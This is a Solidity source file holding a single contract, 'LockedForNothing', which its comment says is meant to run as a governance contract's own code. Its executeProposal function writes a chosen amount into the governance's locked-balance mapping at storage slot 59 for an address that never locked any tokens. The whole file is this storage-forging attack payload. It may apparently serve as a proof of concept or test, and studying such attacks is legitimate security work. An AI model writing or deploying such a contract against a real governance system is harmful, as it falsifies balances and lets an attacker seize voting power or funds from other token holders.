// SPDX-License-Identifier: MIT
pragma solidity 0.8.34;

/// @notice Run as a governance's own code: writes down that somebody locked tokens who never did, where that governance keeps it (slot 59).
contract LockedForNothing {
    uint256[59] private _before;
    mapping(address account => uint256) private _lockedBalance;

    address public immutable WHO;
    uint256 public immutable AMOUNT;

    constructor(address who, uint256 amount) {
        (WHO, AMOUNT) = (who, amount);
    }

    function executeProposal() external {
        _lockedBalance[WHO] = AMOUNT;
    }
}
